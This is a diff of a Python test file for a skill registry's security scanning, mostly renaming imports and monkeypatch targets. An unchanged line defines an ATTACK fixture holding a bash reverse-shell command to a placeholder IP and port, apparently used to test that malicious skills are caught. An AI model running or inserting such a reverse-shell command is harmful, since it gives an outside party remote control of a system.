@@ -9,11 +9,10 @@ from hypothesis import strategies as st
 
 from registry.api import SkillRegistry
 from registry.db.read import findings
-from registry.document.mend import is_perhaps_untidy, untidy
+from registry.document.autofix import is_perhaps_untidy, untidy
 from registry.document.parse import parse_document
 from registry.settings import Limits, Settings
-from registry.sync import fingerprint
-from registry.sync import folder as folder_reading
+from registry.sync import reading
 from tests.conftest import OLD, write_skill
 
 ATTACK = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
@@ -25,13 +24,13 @@ everywhere = pytest.mark.parametrize("target", [(), ("mine",)], ids=["all", "by 
 @pytest.fixture
 def looked(monkeypatch):
     """Note the names of the skills that are looked through for harm."""
-    names, real = [], folder_reading.check_security
+    names, real = [], reading.check_security
 
     def look(document, *, files):
         names.append(document.name)
         return real(document, files=files)
 
-    monkeypatch.setattr(folder_reading, "check_security", look)
+    monkeypatch.setattr(reading, "check_security", look)
     return names
 
 
@@ -102,7 +101,7 @@ class TestWhatASyncFound:
         assert sorted(looked) == ["alpha", "new"]
 
     def test_holds_until_the_rules_are_others(self, registry, alpha, looked, monkeypatch):
-        monkeypatch.setattr(fingerprint, "RULES", "newer")
+        monkeypatch.setattr(reading, "RULES", "newer")
         assert told(registry.check()) == ALL
         assert sorted(looked) == sorted(NAMES)
 
@@ -126,7 +125,7 @@ class TestWhatASyncFound:
     def test_holds_for_no_skill_of_which_a_part_is_not_looked_through(
         self, registry, root, skill, looked, monkeypatch
     ):
-        monkeypatch.setattr("registry.catalog.examine.MAX_SKILL_BYTES", 50)
+        monkeypatch.setattr("registry.catalog.check.MAX_SKILL_BYTES", 50)
         skill("alpha")
         registry.sync(str(root))
         looked.clear()
